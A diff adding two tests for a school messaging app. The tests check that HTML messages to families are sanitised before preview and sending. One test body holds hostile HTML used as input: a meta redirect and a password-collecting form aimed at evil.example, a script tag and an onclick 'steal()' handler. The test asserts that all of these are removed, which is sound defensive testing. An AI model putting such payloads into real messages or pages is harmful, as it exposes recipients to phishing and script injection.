@@ -88,6 +88,32 @@ describe('a message to one family (seed 001, « envoyer un message à une famill
     const none = await secretary.post('/staff/messages/preview', family({ household: 'Dupuis' }))
     expect(none.text).toContain('Foyer : aucun foyer ne s’appelle « Dupuis ».')
   })
+
+  it('previews and sends an HTML message without a meta refresh, a form to another host or a script, and says it was cleaned up', async () => {
+    const { as } = await fresh()
+    const secretary = await as(SECRETARY)
+    const body = '<p>Bonjour {{guardian.firstName}}</p><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name="password"></form><script>alert(1)</script><p onclick="steal()">Vendredi</p>'
+    const preview = await secretary.post('/staff/messages/preview', family({ format: 'html', body }))
+    expect(preview.status).toBe(200)
+    // the preview as shown (the confirmation form after it carries the body as typed, escaped, in a hidden field)
+    const shown = preview.text.slice(preview.text.indexOf('id="preview"'), preview.text.indexOf('action="/staff/messages/send"'))
+    expect(shown).toContain('<div class="message-body"><p>Bonjour Claire</p><p>Vendredi</p></div>')
+    expect(shown).not.toMatch(/<meta|<form action="https:\/\/evil|<script>alert|onclick=/)
+    expect(shown).toContain('Le message a été nettoyé pour l’envoi')
+    const before = smtp.received.length
+    expect((await secretary.post('/staff/messages/send', sendForm(preview.text))).status).toBe(303)
+    const sent = mailText(smtp.received.slice(before)[0]!.data)
+    expect(sent).toContain('<p>Bonjour Claire</p><p>Vendredi</p>')
+    expect(sent).not.toMatch(/evil\.example|<script|onclick/)
+  })
+
+  it('says nothing of a cleanup when an HTML message holds only what families receive', async () => {
+    const { as } = await fresh()
+    const secretary = await as(SECRETARY)
+    const preview = await secretary.post('/staff/messages/preview', family({ format: 'html', body: "<p>Bonjour {{guardian.firstName}}, l'école <a href=\"https://portail.example/\">ouvre</a></p>" }))
+    expect(preview.text).toContain(`<div class="message-body"><p>Bonjour Claire, l'école <a href="https://portail.example/">ouvre</a></p></div>`)
+    expect(preview.text).not.toContain('nettoyé')
+  })
 })
 
 describe('a message to a filtered list (seed 001, « envoyer un message à plusieurs familles »)', () => {
